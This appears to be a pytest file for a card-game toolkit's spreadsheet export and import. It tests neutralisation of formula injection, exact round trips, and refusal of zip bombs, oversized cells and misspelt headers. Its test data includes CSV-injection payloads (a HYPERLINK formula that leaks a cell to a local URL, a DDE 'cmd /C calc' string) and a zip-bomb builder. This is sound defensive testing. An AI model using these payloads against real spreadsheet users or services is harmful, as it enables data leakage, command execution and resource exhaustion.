"""Spreadsheets safe both ways (issue #28; round-3 hostile review F12, F16, F23 I14/I18/L09,
F25 and issue #25's header errors): exported card text never becomes a live formula, the
export-import round trip is exact (formula-like text, long kind names), and a hostile
sheet (a zip bomb, a huge cell, overlapping or misspelt columns) is refused in one line
before anything is written."""

from __future__ import annotations

import random
import shutil
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path

import pytest

from toolkit.cli import main
from toolkit.sheets.cells import neutral, restored
from toolkit.sheets.files import MAX_SHEET_BYTES

REPO = Path(__file__).resolve().parents[2]
FORMULAS = {  # the review's E01-E03 names and their relatives
    "ta1": ('=HYPERLINK("http://127.0.0.1:18399/x?"&A1,"Click")', "=cmd|' /C calc'!A0"),
    "ta2": ("+1+2", "@SUM(1)"),
    "ta3": ("-2+3", "'=already quoted"),
    "ta4": ("\tTabbed", "@@twice"),  # (a CR is refused by validate: control character)
    "ta5": ("-3", "'plain apostrophe"),
}
LONG = ("treasure_of_the_very_long_kind_alpha", "treasure_of_the_very_long_kind_beta")


def toolkit(capsys, *argv) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exit_:
        main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return exit_.value.code, out, err


def refused(capsys, *argv, says: str = "") -> str:
    code, _, err = toolkit(capsys, *argv)
    lines = [line for line in err.splitlines() if line.strip()]
    assert code not in (0, None), err
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert "Traceback" not in err and "unexpected" not in err, err
    assert says in lines[0], lines[0]
    return lines[0]


def _quoted(text: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes: a tab or CR stays that character)."""
    import json
    return json.dumps(text)


@pytest.fixture
def game(tmp_path) -> Path:
    """The Root clearings example with two declared kinds whose names share their first
    31 characters, and cards named like formulas."""
    project = tmp_path / "game"
    shutil.copytree(REPO / "examples" / "root_clearings", project)
    decl = project / "cards" / "game.yaml"
    extra = "".join(f"  {kind}:\n    file: {kind.rsplit('_', 1)[1]}.yaml\n    fields:\n"
                    "      supply: {type: int, min: 0, max: 4}\n" for kind in LONG)
    decl.write_text(decl.read_text().replace("  item:\n", extra + "  item:\n", 1))
    cards = "".join(f"  - {{id: {i}, name: {{en: {_quoted(en)}, zh: {_quoted(zh)}}}, "
                    "copies: 1, supply: 1}\n" for i, (en, zh) in FORMULAS.items())
    (project / "cards" / "alpha.yaml").write_text(f"kind: {LONG[0]}\ncards:\n{cards}")
    (project / "cards" / "beta.yaml").write_text(
        f"kind: {LONG[1]}\ncards:\n  - {{id: tb1, name: {{en: '@b', zh: b}}, copies: 1, "
        "supply: 0}\n")
    return project


def _cards(project: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted((project / "cards").glob("*.yaml"))}


def test_csv_export_neutralises_formulas_and_the_round_trip_is_exact(capsys, game, tmp_path):
    sheet = tmp_path / "alpha.csv"
    assert toolkit(capsys, "export", game, "--kind", LONG[0], "--format", "csv",
                   "--out", sheet)[0] in (0, None)
    text = sheet.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'=cmd|" in text and "'+1+2" in text and "'@SUM" in text
    assert "''=already quoted" in text and ",-3," in text  # a plain number stays a number
    import csv
    for row in csv.reader(text.splitlines()[1:]):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").isdigit(), cell
    before = _cards(game)
    assert toolkit(capsys, "import", sheet, "--kind", LONG[0], game)[0] in (0, None)
    assert _cards(game) == before


def test_xlsx_export_writes_text_cells_and_long_kinds_round_trip(capsys, game, tmp_path):
    book = tmp_path / "cards.xlsx"
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # no raw openpyxl warning (sheet names over 31)
        code, out, err = toolkit(capsys, "export", game, "--out", book)
    assert code in (0, None) and "Warning" not in err, err
    with zipfile.ZipFile(book) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist()
                      if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml  # no formula cell anywhere
    from openpyxl import load_workbook
    sheets = load_workbook(book).sheetnames
    assert all(len(s) <= 31 for s in sheets) and not set(LONG) & set(sheets)
    before = _cards(game)
    code, out, err = toolkit(capsys, "import", book, game)
    assert code in (0, None), err
    assert f"wrote 5 {LONG[0]} cards" in out and f"wrote 1 {LONG[1]} cards" in out
    assert _cards(game) == before


def test_xlsx_formula_text_reads_back_as_the_same_text(capsys, game, tmp_path):
    from openpyxl import load_workbook
    book = tmp_path / "alpha.xlsx"
    toolkit(capsys, "export", game, "--kind", LONG[0], "--out", book)
    cells = {c.value: c for row in load_workbook(book).worksheets[0].iter_rows() for c in row}
    formula = cells[FORMULAS["ta1"][0]]
    assert formula.data_type == "s" and formula.quotePrefix


def test_cell_quoting_is_undone_exactly(tmp_path):
    chars = "'=+-@\t\rab1.e "
    rng = random.Random(28)
    values = ["".join(rng.choice(chars) for _ in range(rng.randint(0, 6))) for _ in range(20000)]
    for value in values + ["-3", "+5", "1e5", "'", "''", "'-3", "-", "="]:
        written = neutral(value)
        assert restored(written) == value, repr(value)
        if written[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(written)  # only a plain number is left starting with + or -


def _zip_bomb(path: Path, size: int) -> Path:
    """A workbook whose sheet XML is `size` bytes of spaces inside one row (I01)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(b'<worksheet><sheetData><row r="1">')
            block = b" " * (1024 * 1024)
            for _ in range(size // len(block)):
                member.write(block)
            member.write(b"</row></sheetData></worksheet>")
    return path


@pytest.mark.parametrize("size, says", [(MAX_SHEET_BYTES + 2 ** 20, "unpacks to"),
                                        (4 * 2 ** 20, "times its packed size")])
def test_xlsx_zip_bomb_is_refused_before_unpacking(capsys, game, tmp_path, size, says):
    bomb = _zip_bomb(tmp_path / "bomb.xlsx", size)
    assert bomb.stat().st_size < 1024 * 1024
    before = _cards(game)
    refused(capsys, "import", bomb, "--kind", "item", game, says=says)
    refused(capsys, "import", bomb, game, says=says)  # the sheet names are not read either
    assert _cards(game) == before


def test_csv_cell_over_the_field_limit_is_one_line(capsys, game, tmp_path):
    sheet = tmp_path / "items.csv"
    sheet.write_text("id,name.en,name.zh,copies,supply\nboots," + "x" * 200_000 + ",a,1,1\n")
    refused(capsys, "import", sheet, "--kind", "item", game, says="line 2: a cell is over")


def test_columns_name_and_name_en_together_are_one_line(capsys, game, tmp_path):
    sheet = tmp_path / "items.csv"
    sheet.write_text("id,name,name.en,copies,supply\nboots,Boots,Boots,4,2\n")
    line = refused(capsys, "import", sheet, "--kind", "item", game)
    assert "row 2: columns 'name' (B) and 'name.en' (C) both set 'name'" in line


@pytest.mark.parametrize("bad, column, near", [("nmae.en", "B", "name.en"),
                                               ("suply", "E", "supply")])
def test_one_bad_header_is_one_error_with_did_you_mean(capsys, game, tmp_path, bad, column,
                                                       near):
    rows = "".join(f"i{n},Item,物,1,1\n" for n in range(30))
    header = "id,name.en,name.zh,copies,supply".replace(near, bad)
    (tmp_path / "items.csv").write_text(f"{header}\n{rows}")
    line = refused(capsys, "import", tmp_path / "items.csv", "--kind", "item", game)
    assert f"column {column}: '{bad}' is not a field of item (did you mean '{near}'?)" in line
    assert "the columns it may have: id, name.en, name.zh" in line


def test_list_on_an_ascii_only_terminal_is_one_line(game):
    import os
    done = subprocess.run([sys.executable, "-m", "toolkit", "list", str(game), "item"],
                          capture_output=True, text=True, timeout=60,
                          env=dict(os.environ, PYTHONIOENCODING="ascii", LC_ALL="C"))
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert done.returncode == 1 and len(lines) == 1, done.stderr
    assert lines[0].startswith("error: the output's encoding (ascii) cannot show")
    assert "PYTHONIOENCODING=utf-8" in lines[0] and "unexpected" not in lines[0]
